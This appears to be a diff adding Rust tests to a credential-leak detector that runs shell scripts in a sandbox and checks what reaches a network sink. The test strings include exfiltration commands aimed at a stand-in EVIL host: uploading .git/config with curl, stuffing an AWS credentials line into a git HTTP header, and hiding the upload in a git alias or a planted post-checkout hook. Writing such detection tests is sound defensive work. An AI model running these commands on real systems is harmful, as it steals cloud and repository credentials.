@@ -162,3 +162,48 @@ fn who_holds_something_else_is_not_believed() -> Result {
     assert!(scene.sink.bytes().is_empty());
     Ok(())
 }
+
+fn clone(host: &str, how: &str) -> String {
+    format!("cd /tmp && git {how} clone -q http://{host}:{PORT}/app.git \"$HOME/app\" > /dev/null 2>&1; cd; ")
+}
+
+/// What a clone has just written it reads back, to ask the remote that it was told: no secret is in that yet.
+#[test]
+fn a_clone_goes_where_it_is_told() -> Result {
+    let scene = Scene::new()?;
+    std::fs::remove_file(scene.home.path().join(".netrc"))?;
+    for how in ["", "-c http.extraheader=X-Trace:1"] {
+        let run = forge(&scene, &(clone(EVIL, how) + "true"))?;
+        assert!(run.conclusion.findings.is_empty(), "{how}: {:#?}", run.conclusion.findings);
+        assert!(String::from_utf8_lossy(&scene.sink.bytes()).contains("GET /app.git/info/refs"), "{how}");
+    }
+    Ok(())
+}
+
+/// Who holds a secret, or is not of the clone, or did not write the file, reads a credential.
+#[test]
+fn others_read_what_a_clone_wrote() -> Result {
+    let ours = format!("{CHECKED_OUT}{}", remote(FORGE));
+    let send = format!("curl -s -T .git/config http://{EVIL}:{PORT}/");
+    for script in [
+        // Told the secret, it asks for nothing that does not accept it.
+        format!("key=$(tail -1 ~/.aws/credentials); {}", clone(EVIL, "-c http.extraheader=\"$key\"")),
+        format!("rm -rf .git; {ours}{send}; "),
+        // A child of git, which did not write it.
+        format!("rm -rf .git; {ours}git -c alias.x='!{send}' x; "),
+        // A child of the one that wrote it, which has read another since.
+        format!(
+            "mkdir -p t/hooks; printf '#!/bin/sh\\ncd \"$GIT_DIR/..\"; {send}\\n' > t/hooks/post-checkout; \
+             chmod +x t/hooks/post-checkout; rm -rf .git; {ours}git add -A; git -c user.name=x -c user.email=x@x.test \
+             commit -qm x --allow-empty; git clone -q --template=t -c http.extraheader=\"$(git config http.extraheader)\" . y; "
+        ),
+    ] {
+        let scene = Scene::new()?;
+        std::fs::remove_file(scene.home.path().join(".netrc"))?;
+        let run = forge(&scene, &(script.clone() + "true"))?;
+        assert!(!leaks(&run).is_empty(), "{script}: {:#?}", run.conclusion.findings);
+        assert!(!scene.home.canary("git").is_in(&scene.sink.bytes()), "{script}");
+        assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()), "{script}");
+    }
+    Ok(())
+}
